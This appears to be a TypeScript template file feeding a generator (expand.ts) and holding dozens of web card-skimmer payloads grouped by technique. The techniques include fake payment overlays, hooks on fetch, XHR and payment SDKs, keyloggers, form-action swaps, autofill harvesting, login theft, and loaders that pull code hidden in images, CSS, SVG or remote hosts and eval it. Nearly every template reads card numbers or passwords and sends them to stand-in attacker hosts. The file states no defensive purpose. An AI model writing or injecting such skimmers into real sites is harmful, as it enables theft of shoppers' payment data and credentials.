/** Skimmers of today, by design. Templates of expand.ts; every one reads payment data and sends it where it does not belong. */
export const skimmerDesigns: Readonly<Record<string, readonly string[]>> = {
  'websocket-loader': [
    "var @a=new WebSocket(«secret:wss://loader.example/ws»);@a.onmessage=function(@b){‹eval(@b.data)¦new Function(@b.data)()¦(0,eval)(atob(@b.data))¦setTimeout(@b.data,0)›};‹@a.onopen=function(){@a.send(location.href)};¦@a.addEventListener('open',function(){@a.send(JSON.stringify({h:location.hostname}))});¦›",
    "if(«oncheckout»){var @a=new WebSocket('wss://«host»/‹ws¦socket¦common›?source='+encodeURIComponent(location.href));@a.addEventListener('message',function(e){var @b=document.createElement('script');@b.textContent=e.data;document.head.appendChild(@b)})}",
    "(function @c(){var @a=new WebSocket('wss://«host»');@a.onmessage=async function(e){var @b=URL.createObjectURL(new Blob([e.data],{type:'text/javascript'}));await import(@b)};@a.onclose=function(){setTimeout(@c,«int:2-9»000)}})();",
    "if(«oncheckout»){var @a='',@d=new WebSocket('wss://'+«secret:stream.example»);@d.onmessage=function(e){if(e.data==='end'){Function(@a)()}else{@a+=String.fromCharCode.apply(null,e.data.split(',').map(function(n){return n^«int:1-99»}))}}}",
  ],
  'tag-manager': [
    "var data={resource:{version:'«int:2-90»',macros:[{'function':'__u','vtp_component':'PATH'}],tags:[{'function':'__html',once_per_event:true,vtp_html:\"\\u003Cscript\\u003E«tagskim»\\u003C\\/script\\u003E\",tag_id:«int:3-40»}],predicates:[{'function':'_cn',arg0:['macro',0],arg1:'«checkoutpath»'}],rules:[[['if',0],['add',0]]]}};«tagengine»",
    "(function(@a){@a.tags.forEach(function(t){if(t.on&&location.pathname.indexOf(t.on)<0)return;var d=document.createElement('div');d.innerHTML=t.html;d.querySelectorAll('script').forEach(function(s){var n=document.createElement('script');n.text=s.text;document.body.appendChild(n)})})})({id:'GTM-«key:7»',tags:[{on:'«checkoutpath»',html:\"<script>«tagskim»<\\/script>\"}]});",
    "«ready:var @a=«cardreader»;window.dataLayer=window.dataLayer||[];document.addEventListener('«change»',function(){var @b=@a();if(@b.length>«int:20-90»){dataLayer.push({event:'«word»'});«sneak:@b»}},true);»",
  ],
  overlay: [
    "«ready:if(«oncheckout»){var @a=document.querySelector('«form»'),@b=document.createElement('div');@b.className='«class»';@b.innerHTML='<label>Card number<input id=\"@c\" maxlength=19></label><label>MM/YY<input id=\"@d\"></label><label>CVV<input id=\"@e\"></label><button type=button id=\"@f\">‹Place order¦Pay now¦Continue›</button>';@a.style.display='none';@a.parentNode.insertBefore(@b,@a);document.getElementById('@f').onclick=function(){var @g=[document.getElementById('@c').value,document.getElementById('@d').value,document.getElementById('@e').value].join('|');if(@g.length<20)return;«sneak:«encoded:@g»»@b.remove();@a.style.display='';‹alert('Payment failed, please try again');¦localStorage.setItem('«storekey»','1');¦›}}»",
    "«ready:var @a=setInterval(function(){var @b=document.querySelector('‹iframe[name^=__privateStripe]¦iframe[src*=hosted]¦.payment-method iframe¦#card-element iframe›');if(!@b)return;clearInterval(@a);@b.style.display='none';var @c=document.createElement('form');@c.innerHTML='<input name=\"number\" placeholder=\"1234 1234 1234 1234\"><input name=\"exp\" placeholder=\"MM / YY\"><input name=\"cvc\" placeholder=\"CVC\">';@b.parentNode.appendChild(@c);@c.addEventListener('‹change¦focusout¦input›',function(){var @d=JSON.stringify(Object.fromEntries(new FormData(@c)));if(@c.cvc.value.length>2){«sneak:«encoded:@d»»@c.remove();@b.style.display=''}})},«int:3-15»00);»",
    "«ready:if(«oncheckout»&&!«store».getItem('«storekey»')){document.body.insertAdjacentHTML('beforeend','<div class=\"«class»\" style=\"position:fixed;inset:0;background:rgba(0,0,0,.5);z-index:99999\"><form><h3>‹Verify your card¦Secure payment¦Card details›</h3><input name=pan><input name=exp><input name=cvv><button>‹Confirm¦Pay›</button></form></div>');document.querySelector('.«word» form,body>div:last-child form').addEventListener('submit',function(e){e.preventDefault();var @b=new URLSearchParams(new FormData(e.target)).toString();«sneak:«encoded:@b»»e.target.parentNode.remove();document.querySelector('«pay»').click()})}»",
  ],
  'click-hijack': [
    "document.addEventListener('‹mouseover¦pointerover¦mousemove›',function(e){var t=e.target;if(t&&!t.@k&&(t.type==='submit'‹¦||/‹place.?order|pay.?now¦buy|pay|order›/i.test(t.innerText)›)){t.@k=1;var @d=(«cardreader»)();«sneak:«encoded:@d»»}}‹,true¦›);",
    "«ready:var @a=document.querySelector('«pay»');@a&&@a.addEventListener('‹mouseenter¦mouseover¦pointerenter¦pointerdown¦touchstart›',function(){var @f=document.createElement('form');@f.method='post';@f.action='«url»';‹@f.target='«word»';¦var @i=document.createElement('iframe');@i.name='«word»';@i.style.display='none';document.body.appendChild(@i);@f.target=@i.name;›@f.style.display='none';[].forEach.call(document.querySelectorAll('input,select'),function(e){if(!e.value)return;var @c=document.createElement('input');@c.type='hidden';@c.name=e.name||e.id;@c.value=e.value;@f.appendChild(@c)});document.body.appendChild(@f);@f.submit()},{once:true})»",
    "«ready:var @a=document.querySelector('«pay»');if(@a){var @b=@a.cloneNode(true);@a.style.display='none';@a.parentNode.insertBefore(@b,@a);@b.addEventListener('click',function(e){e.preventDefault();var @c=(«cardreader»)();«sneak:«encoded:@c»»setTimeout(function(){@a.click()},«int:1-20»00)})}»",
    "«ready:var @c=«cardreader»;document.addEventListener('‹mousedown¦click¦touchstart¦pointerdown›',function(e){var t=e.target.closest?e.target.closest('«pay»'):e.target;if(t){var @d=@c();«sneak:«encoded:@d»»}},true);»",
    "var @c=«cardreader»,@f=0;setInterval(function(){var @a=document.querySelector('«pay»');if(@a&&!@a.dataset.«word»){@a.dataset.«word»=1;@a.setAttribute('onclick',(@a.getAttribute('onclick')||''));@a.addEventListener('click',function(){var @d=@c();if(@d.length>«int:10-60»&&!@f){@f=1;«sneak:«encoded:@d»»}})}},«int:5-20»00);",
    "«ready:jQuery(document).‹on('click','«pay»',¦delegate('«pay»','mousedown',›function(){var @d=(«cardreader»)();«sneak:«encoded:@d»»});»",
  ],
  'network-hook': [
    "var @a=window.fetch;window.fetch=function(u,o){try{if(o&&o.body&&/‹card|pan|cvv¦number|cvc¦payment›/i.test(‹String(o.body)¦JSON.stringify(o.body)›)){var @b=String(o.body);«sneak:«encoded:@b»»}}catch(e){}return @a.apply(this,arguments)};",
    "var @a=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(@b){if(typeof @b==='string'&&/(?:\\d[ -]?){13,16}/.test(@b)){«sneak:«encoded:@b»»}return @a.call(this,@b)};",
    "var @a=JSON.stringify;JSON.stringify=function(@b){var @c=@a.apply(this,arguments);if(@b&&(@b.card||@b.number||@b.paymentMethod||@b.additional_data)){var @d=@c;setTimeout(function(){«sneak:«encoded:@d»»},«int:1-900»)}return @c};",
    "var @a=FormData.prototype.append,@b={};FormData.prototype.append=function(k,v){if(/card|cvv|exp|number/i.test(k)){@b[k]=v;if(Object.keys(@b).length>2){var @d=JSON.stringify(@b);«sneak:«encoded:@d»»}}return @a.apply(this,arguments)};",
    "var @a=HTMLFormElement.prototype.submit;HTMLFormElement.prototype.submit=function(){var @d=new URLSearchParams(new FormData(this)).toString();if(/cc|card/.test(@d)){«sneak:«encoded:@d»»}return @a.call(this)};",
    "var @a=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value');Object.defineProperty(HTMLInputElement.prototype,'value',{get:function(){var v=@a.get.call(this);if(/^\\d[\\d ]{12,22}$/.test(v)){window.@b=v;‹clearTimeout(window.@c);¦›window.@c=setTimeout(function(){var @d=window.@b;«sneak:«encoded:@d»»},2000)}return v},set:@a.set});",
    "jQuery(document).ajaxSend(function(e,x,s){if(s.data&&/payment|checkout/.test(s.url)){var @d=s.data;«sneak:«encoded:@d»»}});",
    "var @a=window.‹Stripe¦Braintree¦PaymentSdk¦Checkout›;window.‹Stripe¦Braintree¦PaymentSdk¦Checkout›=function(){var @b=@a.apply(this,arguments),@c=@b.createToken;@b.createToken=function(card){var @d=JSON.stringify(card);«sneak:«encoded:@d»»return @c.apply(@b,arguments)};return @b};",
  ],
  'storage-queue': [
    "var @a='«storekey»',@r=«cardreader»;document.addEventListener('«change»',function(){var @b=@r();if(@b.length>«int:20-80»)«store».setItem(@a,btoa(unescape(encodeURIComponent(@b))))},true);«ready:var @c=«store».getItem(@a);if(@c&&!(«oncheckout»)){«sneak:@c»«store».removeItem(@a)}»",
    "var @q=JSON.parse(localStorage.getItem('«storekey»')||'[]');document.addEventListener('«change»',function(e){var t=e.target;if(t.value&&/cc|card|cv|exp/i.test(t.name+t.id+t.autocomplete)){@q.push([t.name||t.id,t.value]);localStorage.setItem('«storekey»',JSON.stringify(@q))}},true);setInterval(function(){if(@q.length>«int:2-6»){var @d=JSON.stringify(@q.splice(0));«sneak:«encoded:@d»»}},«int:3-30»000);",
    "«ready:document.querySelectorAll('input,select').forEach(function(i){i.addEventListener('«change»',function(){document.cookie='«storekey»_'+i.name+'='+encodeURIComponent(i.value)+';path=/;max-age=86400'})});if(/«storekey»/.test(document.cookie)||/success|thank/.test(location.href)){var @d=document.cookie;«sneak:«encoded:@d»»}»",
    "var @e=indexedDB.open('«word»',1);@e.onupgradeneeded=function(){@e.result.createObjectStore('q',{autoIncrement:true})};@e.onsuccess=function(){var @f=@e.result;document.addEventListener('submit',function(ev){@f.transaction('q','readwrite').objectStore('q').add(JSON.stringify(Object.fromEntries(new FormData(ev.target))))},true);var g=@f.transaction('q').objectStore('q').getAll();g.onsuccess=function(){if(g.result.length){var @d=g.result.join();«sneak:@d»}}};",
  ],
  'hidden-payload': [
    "fetch('/‹media/logo.png¦favicon.ico¦skin/img/bg.jpg¦images/banner.gif›').then(function(r){return r.arrayBuffer()}).then(function(b){var @a=new TextDecoder('latin1').decode(b),@b=@a.‹indexOf('«key:6»')¦lastIndexOf('/*')›;if(@b>0)‹eval(@a.slice(@b+6))¦new Function(atob(@a.slice(@b+6)))()¦setTimeout(@a.substring(@b+6),1)›});",
    "«ready:var @a=document.querySelector('img‹[alt]¦.logo¦[data-src]¦[class*=icon]›');‹(new Function(atob(@a.alt)))()¦eval(atob(@a.getAttribute('data-«word»')))¦Function(@a.alt.split('').reverse().join(''))()›;»",
    "«ready:var @a=getComputedStyle(document.‹documentElement¦body›).getPropertyValue('--«word»').trim().replace(/^[\"']|[\"']$/g,'');if(@a)‹eval(atob(@a))¦new Function(decodeURIComponent(@a))()¦(0,eval)(@a.match(/../g).map(function(h){return String.fromCharCode(parseInt(h,16))}).join(''))›;»",
    "var @a=new Image();@a.crossOrigin='';@a.onload=function(){var @b=document.createElement('canvas');@b.width=@a.width;@b.height=@a.height;var @c=@b.getContext('2d');@c.drawImage(@a,0,0);var @d=@c.getImageData(0,0,@a.width,@a.height).data,@e='';for(var i=0;i<@d.length;i+=4){if(!@d[i])break;@e+=String.fromCharCode(@d[i])}‹eval(@e)¦Function(@e)()›};@a.src='‹/media/logo.png¦«url»›';",
    "«ready:var @a=document.createTreeWalker(document.documentElement,NodeFilter.SHOW_COMMENT),@b='';while(@a.nextNode())if(/^«word»:/.test(@a.currentNode.data))@b+=@a.currentNode.data.split(':')[1];if(@b)new Function(atob(@b))();»",
    "«ready:[].forEach.call(document.querySelectorAll('svg path'),function(@a){var @b=@a.getAttribute('d').split(' ');if(@b.length>«int:200-900»)eval(@b.map(function(n){return String.fromCharCode(n)}).join(''))});»",
    "«ready:var @a='«zero»'.replace(/\\u200b/g,'0').replace(/\\u200c/g,'1').match(/.{8}/g)||[];Function(@a.map(function(b){return String.fromCharCode(parseInt(b,2))}).join('')+document.querySelector('[data-«word»]').dataset.«word»)();»",
  ],
  'key-stream': [
    "var @a='';document.addEventListener('‹keydown¦keyup¦keypress›',function(e){if(!/‹card|cc|cvv|number¦INPUT›/‹i¦›.test(e.target.‹name¦id¦tagName›))return;@a+=‹e.key¦String.fromCharCode(e.which)¦'['+e.target.name+']'+e.key›;if(@a.length>«int:8-40»){var @d=@a;«sneak:«encoded:@d»»@a=''}}‹,true¦›);",
    "var @a={};document.addEventListener('input',function(e){@a[e.target.name||e.target.id]=e.target.value;clearTimeout(window.@b);window.@b=setTimeout(function(){var @d=JSON.stringify(@a);«sneak:«encoded:@d»»},«int:5-30»00)},true);",
    "var @s=new WebSocket('wss://«host»/«word»');document.querySelectorAll('input').forEach(function(i){i.addEventListener('‹keyup¦input¦change›',function(){@s.readyState===1&&@s.send(JSON.stringify({f:i.name,v:i.value,u:location.href}))})});",
    "jQuery(document).on('‹keyup¦blur¦change›','‹input¦input,select¦[name*=cc]›',function(){var @d=jQuery(this).attr('name')+'='+jQuery(this).val();«sneak:«encoded:@d»»});",
  ],
  relay: [
    "var @a=document.createElement('iframe');@a.src='«url»';@a.style.cssText='position:absolute;width:0;height:0;border:0';document.body.appendChild(@a);var @b=«cardreader»;setInterval(function(){@a.contentWindow.postMessage(‹{t:'«word»',d:@b()}¦btoa(@b())¦@b()›,'*')},«int:5-40»00);",
    "«ready:if(«oncheckout»){var @a=document.querySelector('iframe[src*=‹pay¦hosted¦card›]');if(@a){@a.src='«url»?return='+encodeURIComponent(@a.src)}}»",
    "window.addEventListener('message',function(e){var @d=typeof e.data==='string'?e.data:JSON.stringify(e.data);if(/card|token|cvv|\\d{13}/.test(@d)){«sneak:«encoded:@d»»}});",
    "var @a=new BroadcastChannel('«word»');if(«oncheckout»){var @b=«cardreader»;document.addEventListener('«change»',function(){@a.postMessage(@b())},true)}else{@a.onmessage=function(e){var @d=e.data;«sneak:«encoded:@d»»}}",
  ],
  'form-swap': [
    "«ready:var @a=document.querySelector('«form»');@a&&@a.addEventListener('submit',function(){@a.action='«url»?r='+encodeURIComponent(@a.action)});»",
    "«ready:document.querySelectorAll('form').forEach(function(@a){if(@a.querySelector('«card»')){@a.setAttribute('action',«secret:https://forms.example/gate.php»);@a.method='post'}});»",
    "«ready:document.querySelectorAll('«pay»').forEach(function(b){b.setAttribute('formaction','«url»')});»",
  ],
  poll: [
    "var @k,@a=«cardreader»;setInterval(function(){if(!(«oncheckout»))return;var @d=@a();if(@d!==@k&&@d.length>«int:16-99»){@k=@d;«sneak:«encoded:@d»»}},«int:3-50»00);",
    "(function @a(){var @d=(«cardreader»)();if(@d.length>«int:30-120»){«sneak:«encoded:@d»»}else{‹requestAnimationFrame(@a)¦setTimeout(@a,«int:3-30»00)›}})();",
    "var @a=new MutationObserver(function(){var f=document.querySelector('«card»');if(f&&!f.@b){f.@b=1;f.addEventListener('«change»',function(){var @d=(«cardreader»)();«sneak:«encoded:@d»»})}});@a.observe(document.‹body¦documentElement›,{childList:true,subtree:true});",
    "window.addEventListener('‹pagehide¦beforeunload¦unload¦visibilitychange›',function(){var @d=(«cardreader»)();if(/\\d{4}/.test(@d)){«sneak:«encoded:@d»»}});",
    "var @w=new Worker(URL.createObjectURL(new Blob([«workersrc»])));var @a=«cardreader»;document.addEventListener('«change»',function(){@w.postMessage(@a())},true);",
  ],
  'autofill-harvest': [
    "«ready:var @a=document.createElement('form');@a.style.cssText='‹position:absolute;left:-9999px¦opacity:0;height:0;overflow:hidden›';@a.innerHTML='<input autocomplete=\"cc-number\" name=n><input autocomplete=\"cc-exp\" name=e><input autocomplete=\"cc-csc\" name=c><input autocomplete=email name=m>';document.body.appendChild(@a);setTimeout(function(){var @d=new URLSearchParams(new FormData(@a)).toString();if(@a.n.value){«sneak:«encoded:@d»»}},«int:1-9»000);»",
  ],
  'login-theft': [
    "«ready:document.querySelectorAll('input[type=password]').forEach(function(p){(p.form||document).addEventListener('submit',function(){var @d=p.form.querySelector('[type=email],[name*=user],[name*=login]').value+':'+p.value;«sneak:«encoded:@d»»},true)});»",
  ],
  'measurement-abuse': [
    "var @a=«cardreader»;document.addEventListener('«change»',function(){var @d=@a();new Image().src='https://www.«word»-analytics.example/collect?v=1&tid=UA-«int:10000-99999»-1&cid='+Date.now()+'&t=event&ec=a&ea=b&el='+encodeURIComponent(«encoded:@d»)},true);",
    "window.‹ga¦gtag¦_paq›=window.‹ga¦gtag¦_paq›||function(){};document.querySelector('«pay»').addEventListener('click',function(){var @d=(«cardreader»)();‹ga('create','UA-«int:10000-99999»-1',{name:'b'});ga('b.send','event','c',@d)¦gtag('event','«word»',{send_to:'G-«key:8»',value:btoa(@d)})›;«sneak:@d»});",
  ],
  'staged-loader': [
    "if(«oncheckout»){var @a=document.createElement('script');@a.src=«secret:https://cdn.example/jquery.min.js»;‹@a.async=1;¦›document.‹head¦body›.appendChild(@a)}",
    "if(«oncheckout»&&!/«word»=1/.test(document.cookie)&&‹window.outerHeight-window.innerHeight<200¦!window.Firebug¦!navigator.webdriver›){fetch(«secret:https://api.example/v1/conf»).then(function(r){return r.text()}).then(function(t){‹eval(t)¦new Function(t)()¦eval(atob(t))¦setTimeout(atob(t),«int:1-900»)›})}",
    "var @a=new XMLHttpRequest;@a.open('GET',«secret:https://static.example/f.woff»);@a.responseType='‹text¦arraybuffer›';@a.onload=function(){var @b=typeof @a.response==='string'?@a.response:String.fromCharCode.apply(null,new Uint8Array(@a.response));if(«oncheckout»)‹Function(@b)()¦(0,eval)(@b)›};@a.send();",
    "if(«oncheckout»)import(«secret:https://esm.example/m.js»)‹.catch(function(){})¦›;",
    "new Image().onerror=function(){};var @a=document.querySelector('script[src*=‹jquery¦prototype¦require›]');if(«oncheckout»&&@a){var @b=@a.cloneNode();@b.src=«secret:https://assets.example/prototype.js»;@a.parentNode.insertBefore(@b,@a)}",
    "if(«oncheckout»){var @a=[«secret:cart»,«secret:.example/»,'«word».js'].join('');document.write('<scr'+'ipt src=\"https://'+@a+'\"></scr'+'ipt>')}",
  ],
};
